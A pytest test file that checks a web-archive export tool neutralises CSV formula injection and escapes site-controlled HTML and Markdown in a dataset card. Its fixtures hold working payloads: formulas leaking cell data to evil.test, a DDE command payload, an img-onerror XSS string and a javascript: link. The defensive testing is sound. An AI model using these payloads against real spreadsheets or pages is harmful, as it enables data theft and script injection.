"""Exports of a hostile site: what the site controls must not become a live spreadsheet
formula (CSV injection) or live Markdown/HTML in the dataset card."""

from __future__ import annotations

import csv
import json
import re

import pytest

from archive.export.csv_format import FORMULA_TRIGGERS, neutralize
from archive.export.markdown import md_code, md_text, md_url
from tests.conftest import MIRROR_CONFIG, run_cli
from tests.hostile_server import RawServer, response

pytestmark = pytest.mark.timeout(180)

FILLER = ("The regional council voted on Tuesday to extend the evening bus service until midnight, "
          "after residents of three villages asked for a way home from late shifts in the city.")  # fmt: skip
# (title, first words of the text): each a live formula in a spreadsheet if written as is.
HOSTILE = [
    (
        '=HYPERLINK("http://evil.test/?leak="&A2,"Click for details")',
        "=1+2 is what the clerk wrote first.",
    ),
    ("+SUM(1,2) budget row", "+cmd|' /C calc'!A0 appeared in the minutes."),
    ("-2+3 votes counted twice", '-IMPORTXML(CONCAT("http://evil.test/",A1),"//a") was pasted in.'),
    ("@SUM(A1:A9) in the headline", "@IF(1,2) says the report's first line."),
]
XSS = "<img src=x onerror=alert(document.domain)>"
LINK = "[terms](javascript:alert(1))"


def _page(title: str, first: str) -> bytes:
    html = (f'<!doctype html><html lang="en"><head><meta charset="utf-8"><title>{title}</title>'
            f'<meta name="robots" content="noai, noimageai {XSS} {LINK}"></head><body><article>'
            f"<h1>{title}</h1><p>{first} {FILLER}</p><p>{FILLER}</p></article></body></html>")  # fmt: skip
    return response(200, html, {"X-Robots-Tag": f"noai, {XSS}, {LINK} **bold** `code` | cell"})


@pytest.fixture(scope="module")
def hostile_export(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile-export")
    with RawServer() as site:
        links = "".join(f'<a href="/2024/01/0{i + 1}/story">{i}</a>' for i in range(len(HOSTILE)))
        site.routes["/"] = response(200, f"<html><body>{links}</body></html>")
        site.routes["/robots.txt"] = response(200, f"User-agent: *\nDisallow: /private/\n# {XSS} {LINK}\n",
                                              {"Content-Type": "text/plain", "X-Robots-Tag": f"noai {XSS}"})  # fmt: skip
        for i, (title, first) in enumerate(HOSTILE):
            site.routes[f"/2024/01/0{i + 1}/story"] = _page(title, first)
        config = tmp / "c.toml"
        config.write_text(MIRROR_CONFIG + f'\n[sites.hostile]\nstart_urls = ["{site.url}/"]\narticle_pattern = "^/2024/"\n'
                          f'terms_url = "javascript:alert(1)"\n')  # fmt: skip
        data = tmp / "data"
        crawled = run_cli(
            "crawl", "hostile", "--no-progress", "--json", data_dir=data, config=config
        )
        assert crawled.returncode == 0, crawled.stderr
        assert json.loads(crawled.stdout)["articles_new"] == len(HOSTILE), crawled.stdout
    return data, config, tmp


def _export(hostile_export, *args: str, name: str) -> tuple[list[dict], str]:
    data, config, tmp = hostile_export
    out = tmp / name
    result = run_cli(
        "export",
        "--format",
        "csv",
        "--out",
        str(out),
        "--no-progress",
        *args,
        data_dir=data,
        config=config,
    )
    assert result.returncode == 0, result.stderr
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    return rows, (tmp / f"{name}.md").read_text(encoding="utf-8")


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(hostile_export):
    rows, card = _export(hostile_export, "--view", "versions", name="safe.csv")
    assert len(rows) == len(HOSTILE)
    titles = {r["title"] for r in rows}
    assert titles == {"'" + title for title, _ in HOSTILE}
    for row in rows:
        assert row["text"].startswith("'") and row["text"][1] in "=+-@"
        # No cell of any column is a live formula.
        assert not any(value.startswith(FORMULA_TRIGGERS) for value in row.values()), row
    assert "written with a `'` in front" in card and "--csv-raw" in card


def test_csv_raw_keeps_the_values_and_the_card_says_so(hostile_export):
    rows, card = _export(hostile_export, "--csv-raw", name="raw.csv")
    assert {r["title"] for r in rows} == {title for title, _ in HOSTILE}
    assert {r["text"].split(" ", 1)[0] for r in rows} == {
        first.split(" ", 1)[0] for _, first in HOSTILE
    }
    assert "--csv-raw" in card and "live formula" in card


def test_csv_raw_is_only_for_csv(hostile_export):
    data, config, tmp = hostile_export
    result = run_cli(
        "export",
        "--format",
        "jsonl",
        "--csv-raw",
        "--out",
        str(tmp / "x.jsonl"),
        data_dir=data,
        config=config,
    )
    assert result.returncode == 2 and "--csv-raw applies to --format csv only" in result.stderr


@pytest.mark.parametrize("cell", ["=1", "+1", "-1", "@x", "\t=1", "\r=1"])
def test_every_owasp_trigger_is_neutralised(cell):
    assert neutralize(cell) == "'" + cell
    assert neutralize("plain " + cell) == "plain " + cell


def test_the_card_escapes_everything_the_site_controls(hostile_export):
    _, card = _export(hostile_export, name="card.csv")
    section = card.split("### hostile")[1].split("\n## ")[0]
    assert "X-Robots-Tag seen:" in section and "noai / noimageai signals:" in section
    # No raw HTML, no Markdown link, no emphasis or code from the site survives.
    assert "<img" not in card and "onerror=alert" in card  # the words stay, as text
    assert "&lt;img src=x onerror=alert" in section
    assert "](javascript:" not in card and "\\[terms\\]\\(javascript:alert\\(1\\)\\)" in section
    assert "**bold**" not in card and "\\*\\*bold\\*\\*" in section and "\\`code\\`" in section
    assert "javascript:alert(1)" not in re.sub(r"\\\\.", "", card), "no live javascript: anywhere"
    # The configured terms URL is not http(s): shown as text, not a link.
    assert "- terms of use: javascript:alert\\(1\\)" in section


def test_markdown_helpers():
    assert md_text("a|b [x](y) <b> & `c` *d* _e_ ~f~ $g$ #h !i\nj") == (
        "a\\|b \\[x\\]\\(y\\) &lt;b&gt; &amp; \\`c\\` \\*d\\* \\_e\\_ \\~f\\~ \\$g\\$ \\#h \\!i j"
    )
    assert md_text("cnn-lite") == "cnn-lite"
    assert md_url("https://example.org/robots.txt") == "<https://example.org/robots.txt>"
    assert (
        md_url("https://e.org/<x>") == "https://e.org/&lt;x&gt;"
        and md_url("javascript:x") == "javascript:x"
    )
    assert md_code("a`b") == "``a`b``" and md_code("`x") == "`` `x ``"
